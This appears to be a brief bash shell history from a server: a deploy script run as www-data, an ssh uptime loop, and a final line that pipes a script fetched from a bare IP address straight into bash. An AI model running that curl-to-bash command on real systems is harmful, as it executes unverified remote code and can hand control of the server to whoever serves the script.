#1709528767
cd /srv/app
#1709528790
sudo -u www-data ./deploy.sh --now
#1709528800
for host in a b; do
  ssh "$host" uptime
done
#1709528900
curl -s http://192.0.2.8/x.sh | bash
